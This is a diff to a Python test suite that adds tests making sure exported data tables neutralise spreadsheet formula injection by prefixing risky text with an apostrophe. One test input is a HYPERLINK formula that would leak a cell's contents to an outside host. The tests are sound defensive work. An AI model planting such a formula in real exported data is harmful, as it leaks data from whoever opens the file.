@@ -10,6 +10,8 @@ from typing import Any
 import pytest
 
 from tests.support.read_back import export, rows, write
+from tests.support.small_form import small_cases
+from tipcoder.domain.answers import Answer
 from tipcoder.errors import UserError
 from tipcoder.exchange.analysts.package import write_package
 from tipcoder.exchange.privacy import profiles
@@ -46,6 +48,8 @@ def test_every_table_holds_what_its_sheet_holds(tmp_path: Path, profile: Profile
 
 
 def _plain(value: object) -> str:
+    if isinstance(value, str):
+        return f"'{value}" if value.startswith(tuple("=+-@'")) else value
     return value.date().isoformat() if hasattr(value, "date") else str(value)
 
 
@@ -113,3 +117,25 @@ def test_giving_up_leaves_nothing(tmp_path: Path) -> None:
     next(steps)
     steps.close()
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", '=HYPERLINK("http://x.org?"&A1)']
+)
+def test_no_text_is_a_formula_and_every_text_is_told(tmp_path: Path, text: str) -> None:
+    cases = small_cases()
+    cases[0]["charges"][0].answers["facts_found"] = Answer(text)  # type: ignore[index]
+    folder = tmp_path / "data"
+    list(write_package(folder, export(profiles.ARCHIVE, cases=cases)))
+    assert table(folder, "charges")[0]["facts_found"] == f"'{text}"
+    assert all("apostrophe" in resource["description"] for resource in described(folder)["resources"])
+
+
+def test_numbers_and_dates_are_no_texts(tmp_path: Path) -> None:
+    fields = {
+        field["name"]: field["type"] for resource in described(packed(tmp_path / "data"))["resources"]
+        for field in resource["schema"]["fields"]
+    }  # fmt: skip
+    for name in ("cases", "defendants", "charges"):
+        for row in table(tmp_path / "data", name):
+            assert not [key for key, text in row.items() if fields[key] in ("number", "integer") and text[:1] == "'"]
